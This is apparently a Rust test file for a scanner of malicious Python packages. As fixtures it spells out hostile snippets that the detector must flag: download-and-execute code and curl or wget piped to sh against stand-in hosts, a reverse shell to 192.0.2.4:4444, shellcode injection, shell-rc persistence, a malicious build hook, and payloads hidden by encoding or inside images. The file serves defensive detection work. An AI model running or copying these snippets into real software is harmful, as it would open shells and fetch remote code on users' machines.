//! What stands together in small files, and constants that decode to code.

#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use packguard_sdk::Severity;
use support::{Files, analyze, base64, convicted, quiet, score, severity};

/// A rule finds one text at this severity in a module that is imported.
#[track_caller]
fn found(rule: &str, least: Severity, text: &str) {
    let analysis = analyze("demo/__init__.py", text);
    let found = severity(&analysis, rule);
    assert!(found >= Some(least), "{rule}: {found:?} in {text}");
}

#[test]
fn stages_written_and_run_are_found() {
    found(
        "python-download-execute",
        Severity::High,
        "import os, subprocess, tempfile\nfrom urllib.request import urlopen\n\ndef place(data):\n    fd = os.open(os.path.join(tempfile.mkdtemp(), 'x.exe'), os.O_CREAT)\n    os.write(fd, data)\n    return str(fd)\n\ndef go():\n    subprocess.Popen([place(urlopen('https://files.example/a').read())])\n\ngo()\n",
    );
    found(
        "python-staged-code",
        Severity::High,
        "import importlib.util, os, tempfile\np = os.path.join(tempfile.mkdtemp(), 'fast.pyc')\nwith open(p, 'wb') as f:\n    f.write(bytes.fromhex(open('a.bin').read()))\nspec = importlib.util.spec_from_file_location('fast', p)\n",
    );
    found(
        "python-remote-import",
        Severity::High,
        "import importlib, os, urllib.request\nd = os.path.dirname(__file__)\nwith urllib.request.urlopen('https://x.example/f') as r:\n    with open(os.path.join(d, '_f.py'), 'wb') as f:\n        f.write(r.read())\nf = importlib.import_module('._f', __package__)\n",
    );
    found(
        "python-download-execute",
        Severity::High,
        "import requests\nclass T:\n    def __init__(self, url):\n        self.body = requests.get(url).content\n    def run(self):\n        exec(self.body)\nT('https://x.example/t').run()\n",
    );
}

#[test]
fn files_beside_the_code_are_found_where_they_run() {
    found(
        "python-bundled-program",
        Severity::High,
        "import os, subprocess\nb = os.path.join(os.path.dirname(__file__), 'bin', 'agent')\nos.chmod(b, 0o755)\nsubprocess.Popen([b], stdout=subprocess.DEVNULL)\n",
    );
    found(
        "python-disguised-code",
        Severity::High,
        "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'blank.gif'))\n",
    );
    quiet(&[
        (
            "demo/__init__.py",
            "import os, subprocess\ndef main(args):\n    b = os.path.join(os.path.dirname(__file__), 'bin', 'agent')\n    return subprocess.call([b] + args)\n",
        ),
        (
            "demo/__init__.py",
            "import os, subprocess, urllib.request\nhome = os.getenv('CUDA_HOME', '/usr/local/cuda')\nraw = subprocess.check_output([home + '/bin/nvcc', '-V'])\ndef fetch(url, name):\n    urllib.request.urlretrieve(url, name)\n",
        ),
    ]);
}

#[test]
fn shells_and_memory_are_found() {
    found(
        "python-reverse-shell",
        Severity::High,
        "import os, socket\nclass F:\n    def __init__(self, fd):\n        self.fd = fd\n    def link(self, others):\n        for o in others:\n            os.dup2(self.fd, o)\ns = socket.socket()\ns.connect(('192.0.2.4', 4444))\nF(s.fileno()).link(range(3))\nos.execl('/bin/sh', 'sh')\n",
    );
    found(
        "python-reverse-shell",
        Severity::High,
        "import asyncio, threading, websockets\nasync def serve(peer='wss://x.example/a'):\n    async for ws in websockets.connect(peer):\n        async for text in ws:\n            proc = await asyncio.create_subprocess_shell(text)\n            await ws.send((await proc.communicate())[0])\nthreading.Thread(target=lambda: asyncio.run(serve()), daemon=True).start()\n",
    );
    found(
        "python-shellcode",
        Severity::High,
        "import ctypes\nbuf = b'\\x90\\x90\\xc3'\ndef warm():\n    k = ctypes.windll.kernel32\n    p = k.VirtualAlloc(None, 3, 0x3000, 0x40)\n    ctypes.memmove(p, buf, 3)\n    k.CreateThread(None, 0, p, None, 0, None)\nwarm()\n",
    );
    found(
        "python-persistence",
        Severity::High,
        "from pathlib import Path\nfor name in ('.bashrc', '.zshrc'):\n    rc = Path.home() / name\n    with rc.open('a') as f:\n        f.write('alias sudo=x')\n",
    );
    found(
        "python-shell-download-run",
        Severity::High,
        "import weakref\nfrom .x import later\nlater(object(), \"sh -c 'wget -q -O- https://x.example/c | sh'\")\n",
    );
    quiet(&[
        (
            "demo/__init__.py",
            "import ctypes\nk = ctypes.WinDLL('kernel32')\nVirtualAlloc = k.VirtualAlloc\nCreateThread = k.CreateThread\nmemmove = ctypes.memmove\n",
        ),
        (
            "demo/__init__.py",
            "import subprocess\nprint('Install it with: curl -sSf https://x.example/i.sh | sh')\nprint('curl -sSf https://x.example/i.sh | sh')\n",
        ),
    ]);
}

#[test]
fn constants_that_are_code_are_found() {
    let code =
        "import os, urllib.request\nexec(urllib.request.urlopen('http://192.0.2.4/p').read())\n";
    let numbers: Vec<String> = code.bytes().map(|byte| byte.to_string()).collect();
    let addresses: Vec<String> = code.bytes().map(|b| format!("'203.0.113.{b}'")).collect();
    let backwards: String = base64(code).chars().rev().collect();
    for (name, text) in [
        ("base64", format!("T = '{}'\nrun(exec, T)\n", base64(code))),
        ("reversed", format!("T = '{backwards}'\nrun(exec, T)\n")),
        (
            "numbers",
            format!("T = ({},)\nrun(exec, T)\n", numbers.join(",")),
        ),
        (
            "addresses",
            format!("T = [{}]\nrun(exec, T)\n", addresses.join(",")),
        ),
    ] {
        let analysis = analyze("demo/__init__.py", text);
        let found = severity(&analysis, "python-latent-payload");
        assert!(found >= Some(Severity::High), "{name}: {found:?}");
    }
    found(
        "python-latent-payload",
        Severity::High,
        "T = ['cG9zdA==', 'ZW52aXJvbg==', 'cmVxdWVzdHM=', 'b3M=']\ngetattr(T, 'x')\n",
    );
    let hidden = "\u{200b}\u{200c}".repeat(40);
    found(
        "python-unseen-data",
        Severity::High,
        &format!("T = '{hidden}'\nexec(read(T))\n"),
    );
    found(
        "python-encoded-source",
        Severity::High,
        "# -*- coding: utf_7 -*-\nx = 1\n",
    );
    let note = base64("A note that is long enough to be a text, and imports nothing.");
    quiet(&[
        ("demo/__init__.py", "# -*- coding: latin-1 -*-\nx = 1\n"),
        ("demo/__init__.py", &format!("T = '{note}'\nrun(exec, T)\n")),
    ]);
}

#[test]
fn build_hooks_run_by_themselves() {
    let backend = b"from setuptools.build_meta import *\ndef get_requires_for_build_wheel(config_settings=None):\n    import os\n    os.system('curl -s https://x.example/b | sh')\n    return []\n";
    convicted(30, &[("backend", &[("_build/backend.py", backend)])]);
}

#[test]
fn packages_of_which_nothing_can_be_read_are_found() {
    let code = b"from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n";
    let files: Files<'_> = &[
        ("demo/__init__.py", b"from . import a\n"),
        ("demo/a.py", code),
    ];
    assert!(score(files) >= 30);
    let vendor: String = (0..60).map(|n| format!("x{n} = {n}\n")).collect();
    let files: Files<'_> = &[("demo/__init__.py", vendor.as_bytes()), ("demo/a.py", code)];
    assert!(score(files) < 30);
}

#[test]
fn scripts_and_data_that_are_run_are_found() {
    found(
        "python-staged-code",
        Severity::High,
        "import os\nopen('a.bat', 'w').write('echo x')\nos.startfile('a.bat')\n",
    );
    found(
        "python-disguised-code",
        Severity::High,
        "import os\nd = open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read()\nexec(d[d.index(b'IEND') + 8:])\n",
    );
    quiet(&[(
        "demo/__init__.py",
        "import subprocess, zipfile\nfrom urllib.request import urlopen\ndef get(path):\n    zipfile.ZipFile(urlopen('https://x.example/a.zip')).extractall(path)\n    return subprocess.check_output([path, '--version'])\n",
    )]);
}
